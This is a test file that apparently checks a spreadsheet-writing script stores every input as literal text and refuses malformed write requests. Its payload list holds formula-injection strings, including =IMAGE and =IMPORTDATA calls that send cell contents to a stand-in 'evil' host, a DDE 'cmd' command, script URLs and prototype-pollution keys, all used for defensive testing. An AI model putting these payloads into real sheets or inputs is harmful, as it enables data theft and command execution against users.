import { describe, expect, test } from "vitest";
import type { Cell, ColumnType } from "../../../backend/contract/cells.ts";
import { MemoryGrid } from "../../playground/memory-grid.ts";
import type { WriteTable } from "../../rpc.ts";
import { openScript } from "../../script-in-vm.ts";
import type { WriteTarget } from "../../writes.ts";

const payloads = [
  '=IMAGE("https://evil/?d="&A1)',
  '=IMPORTXML("https://evil","//a")',
  '=IMPORTDATA("https://evil/?"&A1)',
  '=IMPORTHTML("https://evil","table",1)',
  '=IMPORTFEED("https://evil")',
  '=IMPORTRANGE("abc","A1")',
  '=HYPERLINK("https://evil","click")',
  "+1+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1+1",
  "'=1+1",
  "''=1+1",
  "=ROWSMITH(A1:Z1000)",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "1E400",
  "NaN",
  "2026-02-30",
  "TRUE",
  "007",
  "3-4",
  "1/2",
  "5%",
  "1e5",
  "  7  ",
  "€5",
  "10:30",
  "__proto__",
  "constructor",
];

const targets: WriteTarget[] = [
  { kind: "selection", header: true },
  { kind: "append" },
  { kind: "new-sheet" },
];

async function write(table: WriteTable, target: WriteTarget, grid = new MemoryGrid()) {
  const { call } = await openScript(grid);
  const plan = call("plan", { table, target });
  const receipt = call("apply", { writeId: "w", table, target: plan.target, planHash: plan.hash });
  const sheet = grid.sheets().find(({ name }) => name === receipt.sheet);
  const extent = grid.extent(sheet?.id ?? 0);
  return { sheet, cells: grid.read(sheet?.id ?? 0, { row: 0, column: 0, ...extent }) };
}

function tableOf(type: ColumnType, name: string, value: string): WriteTable {
  return { title: "Table", columns: [{ name, type }], rows: [[{ value }]] };
}

describe.each(targets)("$kind", (target) => {
  test.each(payloads)("%j as a value is that text and no formula", async (value) => {
    const grid = new MemoryGrid();
    if (target.kind === "append")
      grid.write(0, { row: 0, column: 0, rows: 1, columns: 1 }, [[{ value: "A" }]]);
    for (const type of ["text", "number", "date", "url", "boolean"] as const) {
      const { cells } = await write(tableOf(type, "A", value), target, structuredCopy(grid));
      expect(cells[1]?.[0]).toMatchObject({ value, formula: "" });
    }
  });

  test.each(payloads)("%j as a column's name is that text and no formula", async (name) => {
    const grid = new MemoryGrid();
    const mapped = target.kind === "append" ? { ...target, mapping: [name] } : target;
    if (target.kind === "append")
      grid.write(0, { row: 0, column: 0, rows: 1, columns: 1 }, [[{ value: "A" }]]);
    const { cells } = await write(tableOf("text", name, "x"), mapped, grid);
    expect(cells[0]?.at(-1)).toMatchObject({ value: name, formula: "" });
  });
});

/** The same header in a fresh grid, so that each write starts alike. */
function structuredCopy(grid: MemoryGrid): MemoryGrid {
  const copy = new MemoryGrid();
  const extent = grid.extent(0);
  if (extent.rows > 0) {
    const rect = { row: 0, column: 0, ...extent };
    copy.write(0, rect, grid.read(0, rect));
  }
  return copy;
}

test.each(['=IMAGE("https://evil")', "'=1+1", "__proto__", "<b>x</b>"])(
  "%j as a title names a sheet literally, without the signs that names cannot have",
  async (title) => {
    const { sheet, cells } = await write({ ...tableOf("text", "A", "x"), title }, { kind: "new-sheet" });
    expect(sheet?.name).toBe(title.replace(/[:/]+/g, " ").replace(/^'/, "").trim());
    expect(cells.flat().every(({ formula }) => formula === "")).toBe(true);
  },
);

test("a real -5 in a number column is a number", async () => {
  const table: WriteTable = { title: "", columns: [{ name: "A", type: "number" }], rows: [[{ value: -5 }]] };
  const { cells } = await write(table, { kind: "selection", header: true });
  expect(cells[1]?.[0]).toMatchObject({ value: -5, formula: "" });
});

test("a formula that Rowsmith wrote as text is text still after a person's edit was taken back", async () => {
  const grid = new MemoryGrid();
  const text = { value: "=1+1", format: "@" };
  grid.write(0, { row: 1, column: 0, rows: 1, columns: 1 }, [[text]]);
  const faults = ["SpreadsheetApp.flush"];
  const before = (name: string) => {
    if (name === faults[0]) {
      faults.shift();
      throw new Error("boom");
    }
  };
  const { call } = await openScript(grid, { before });
  const table = tableOf("text", "A", "new");
  const plan = call("plan", { table, target: { kind: "selection", header: true } });
  expect(() => call("apply", { writeId: "w", table, target: plan.target, planHash: plan.hash })).toThrow();
  expect(grid.read(0, { row: 1, column: 0, rows: 1, columns: 1 })[0]?.[0]).toEqual({ ...text, formula: "" });
});

describe("refused, and the sheet stays empty", () => {
  const bad: [string, string, Partial<WriteTable>][] = [
    ["50,001 characters in a cell", "cell-too-long", { rows: [[{ value: "x".repeat(50_001) }]] }],
    [
      "50,001 characters in a name",
      "column-name-too-long",
      { columns: [{ name: "x".repeat(50_001), type: "text" }] },
    ],
    ["a row that is too wide", "row-width", { rows: [[{ value: "a" }], [{ value: "b" }, { value: "c" }]] }],
    ["a row that is too narrow", "row-width", { rows: [[]] }],
    ["a row that is none", "row-width", { rows: [null] as unknown as Cell[][] }],
    ["a cell that is none", "invalid-request", { rows: [["x"]] as unknown as Cell[][] }],
    ["an object as a value", "invalid-request", { rows: [[{ value: {} }]] as unknown as Cell[][] }],
    ["no rows", "no-rows", { rows: [] }],
    ["no columns", "invalid-request", { columns: [] }],
  ];

  test.each(bad)("%s", async (_what, code, part) => {
    const grid = new MemoryGrid();
    const { call } = await openScript(grid);
    const table = { ...tableOf("text", "A", "x"), ...part };
    const args = { table, target: { kind: "selection", header: true } as const };
    expect(() => call("plan", args)).toThrow(expect.objectContaining({ code }));
    expect(() => call("apply", { ...args, writeId: "w", planHash: "" })).toThrow(
      expect.objectContaining({ code }),
    );
    expect(grid.extent(0)).toEqual({ rows: 0, columns: 0 });
  });

  test("a number beyond what a sheet holds, without its text", async () => {
    const { script } = await openScript(new MemoryGrid());
    const json =
      '{"table":{"title":"","columns":[{"name":"A","type":"number"}],"rows":[[{"value":1E400}]]},"target":{"kind":"new-sheet"}}';
    expect(JSON.parse(script.rpc("plan", json))).toMatchObject({
      ok: false,
      problem: { code: "invalid-request" },
    });
  });

  test("a target that is not known, such as one that deletes", async () => {
    const { script } = await openScript(new MemoryGrid());
    const json = JSON.stringify({
      table: tableOf("text", "A", "x"),
      target: { kind: "delete", sheet: "Sheet1" },
    });
    expect(JSON.parse(script.rpc("plan", json))).toMatchObject({
      ok: false,
      problem: { code: "invalid-request" },
    });
  });
});
